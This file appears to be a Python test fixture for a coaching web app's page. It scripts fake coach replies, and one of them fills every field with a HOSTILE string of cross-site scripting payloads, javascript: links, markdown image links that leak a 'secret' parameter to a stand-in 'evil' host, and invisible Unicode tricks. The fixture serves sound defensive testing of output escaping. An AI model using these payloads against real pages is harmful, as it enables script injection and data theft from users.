"""A service for tests of the page: real store, real reader, real rules; the coach says what a script tells it to say."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from functools import cached_property
from pathlib import Path

from app.coaching.coach import TeamText, usable
from app.coaching.model import (
    Answer,
    Event,
    Fact,
    Finished,
    Kind,
    Origin,
    Progress,
    Reference,
    Sentence,
    SentenceKind,
    SentenceReady,
    Source,
    SourcesFound,
    Status,
    Timings,
)
from app.coaching.ports import Conversations
from app.errors import ModelUnavailable
from app.settings import Settings
from app.wiring import Service, ServiceState

REPOSITORY = Path(__file__).resolve().parents[2]
EVIL = "http://127.0.0.1:9/evil"  # nobody listens there; a request to it would still be seen
HOSTILE = (
    f"<script>window.pwned=1</script><img src=x onerror=\"window.pwned=1\"><img src='{EVIL}.png'>"
    f"<iframe src='{EVIL}'></iframe><svg onload='window.pwned=1'></svg><a href='javascript:window.pwned=1'>js</a> "
    f"![x]({EVIL}.png?d=secret) ![y][ref] [link]({EVIL}) <{EVIL}> {EVIL}/auto www.evil.example a@evil.example "
    f"$\\frac{{1}}{{2}}$ $$x^2$$ :red[red] :material/home: :smile: :blue-background[b] `code` **bold** \x1b[31mansi\x07 "
    f"\u202etfel\u202c zero\u200bwidth \U000e0041tag </div></p></textarea>\"'>&amp; {{x.__class__}} {{{{y}}}}\n\n# heading\n\n"
    f"[ref]: {EVIL}.png"
)
SEVERAL = 8  # sentences of a slow answer


@dataclass
class ScriptedReply:
    """A reply that is written down; it keeps its turn just before `Finished`, as the real one does."""

    events: list[Event | float]
    answer: Answer
    conversation: str
    conversations: Conversations
    stopping: threading.Event = field(default_factory=threading.Event)

    def __iter__(self) -> Iterator[Event]:
        said: list[Sentence] = []
        for event in self.events:
            if isinstance(event, float):
                self.stopping.wait(event)
                continue
            if self.stopping.is_set():
                break
            if isinstance(event, SentenceReady):
                said.append(event.sentence)
            yield event
        from dataclasses import replace

        answer = replace(self.answer, sentences=tuple(said), stopped=self.stopping.is_set())
        yield Finished(self.conversations.keep(self.conversation, answer).answer)

    def stop(self) -> None:
        self.stopping.set()


class ScriptedCoach:
    """Answers by the first word of the question that it knows."""

    def __init__(self) -> None:
        self.asked: list[tuple[str, tuple[TeamText, ...], tuple[Fact, ...]]] = []

    def ask(
        self,
        question: str,
        conversation: str,
        conversations: Conversations,
        *,
        documents: Sequence[TeamText] = (),
        told: Sequence[Fact] = (),
    ) -> ScriptedReply:
        text = usable(question)
        self.asked.append((text, tuple(documents), tuple(told)))
        if "boom" in text:
            raise RuntimeError("secret in /etc/secret/place")
        if "unavailable" in text:
            raise ModelUnavailable("The language model does not answer.", "Run `rolewise doctor`.")
        if "slow" in text:
            return self._slow(text, conversation, conversations)
        if "hostile" in text:
            return self._hostile(text, conversation, conversations)
        return self._plain(text, conversation, conversations)

    def _plain(self, text: str, conversation: str, conversations: Conversations) -> ScriptedReply:
        sources = (a_source(1), a_source(2, title="Project manager", quote="A project manager watches the date."))
        sentences = [
            Sentence("A product manager decides what is worth building.", SentenceKind.ANSWER, Origin.GUIDE, (1,)),
            Sentence("It weighs what people need against what it costs.", SentenceKind.ANSWER, Origin.MODEL, (1, 2)),
            Sentence("A small team may share the work.", SentenceKind.CONDITION, Origin.GUIDE, (2,)),
        ]
        made = an_answer(text, sources=sources, choices=("One supplier", "Several suppliers"), ask_back="How many suppliers?")
        return self._reply(made, sources, sentences, conversation, conversations, pause=0.0)

    def _slow(self, text: str, conversation: str, conversations: Conversations) -> ScriptedReply:
        sources = (a_source(1),)
        sentences = [
            Sentence(f"Slow sentence {n} of {SEVERAL}.", SentenceKind.ANSWER, Origin.GUIDE, (1,)) for n in range(1, SEVERAL + 1)
        ]
        return self._reply(an_answer(text, sources=sources), sources, sentences, conversation, conversations, pause=0.35)

    def _hostile(self, text: str, conversation: str, conversations: Conversations) -> ScriptedReply:
        works = (Reference(HOSTILE, HOSTILE, "javascript:window.pwned=1", HOSTILE),) * 2
        source = a_source(
            1, title=HOSTILE, section=HOSTILE, quote=HOSTILE, text=f"Before. {HOSTILE} After.", url="javascript:window.pwned=1",
            publisher=HOSTILE, licence=HOSTILE, reviewed=HOSTILE, references=works,
        )  # fmt: skip
        linked = a_source(2, url=f'{EVIL}?q="><script>window.pwned=1</script>', title="Linked")
        sentences = [
            Sentence(HOSTILE, kind, origin, (1, 7))
            for kind, origin in zip(SentenceKind, [Origin.MODEL, Origin.GUIDE, Origin.RULE, Origin.PERSON] * 2, strict=False)
        ]
        made = an_answer(
            text, sources=(source, linked), notices=(HOSTILE,), choices=(HOSTILE,), ask_back=HOSTILE, model=HOSTILE,
            status=Status.PARTLY_ANSWERED, kind=Kind.TEAM,
            understood=(Fact("team_size", HOSTILE),),
        )  # fmt: skip
        return self._reply(made, (source, linked), sentences, conversation, conversations, pause=0.0)

    def _reply(
        self, answer: Answer, sources: tuple[Source, ...], sentences: list[Sentence], conversation: str,
        conversations: Conversations, pause: float,
    ) -> ScriptedReply:  # fmt: skip
        events: list[Event | float] = [SourcesFound(sources), Progress("The model is putting it into words.")]
        for sentence in sentences:
            events += [pause, SentenceReady(sentence)] if pause else [SentenceReady(sentence)]
        return ScriptedReply(events, answer, conversation, conversations)


class ScriptedService(Service):
    """The real service but for its coach and for what it says about itself."""

    def __init__(self, settings: Settings, *, ready_after: float = 0.0, leaves_machine: str = "") -> None:
        super().__init__(settings)
        self.warmed = 0
        self._leaving = leaves_machine
        self._ready_at = time.monotonic() + ready_after

    @cached_property
    def coach(self) -> ScriptedCoach:  # type: ignore[override]  # it has the one method that the page calls
        return ScriptedCoach()

    def warm(self) -> None:
        self.warmed += 1

    def state(self) -> ServiceState:
        ready = time.monotonic() >= self._ready_at
        return ServiceState(
            can_answer=ready,
            waiting_for="" if ready else "The guidance is being loaded.",
            model="scripted",
            model_ready=ready,
            model_problem="",
            leaves_machine=self._leaving,
            index_version="v1",
        )


def some_settings(data: Path, **changes: object) -> Settings:
    return Settings(data=data, models=data / "models", corpus=REPOSITORY / "corpus", llm="none", **changes)  # type: ignore[arg-type]


def a_source(n: int, **changes: object) -> Source:
    quote = str(changes.pop("quote", "A product manager decides what is worth building."))
    fields: dict[str, object] = {
        "n": n, "passage": f"guide#{n}", "document": "guide", "collection": "shipped", "title": "Product manager",
        "section": "What the role is for", "publisher": "Rolewise", "url": "https://guides.example/product-manager",
        "licence": "Apache-2.0", "reviewed": "2026-11-20", "quote": quote, "text": f"Before it. {quote} After it.", "score": 0.7,
    }  # fmt: skip
    return Source(**{**fields, **changes})  # type: ignore[arg-type]


def an_answer(question: str, **changes: object) -> Answer:
    fields: dict[str, object] = {
        "question": question, "kind": Kind.EXPLAIN, "status": Status.ANSWERED, "sentences": (), "model": "scripted",
        "index_version": "v1", "timings": Timings(120, 300, 900),
    }  # fmt: skip
    return Answer(**{**fields, **changes})  # type: ignore[arg-type]
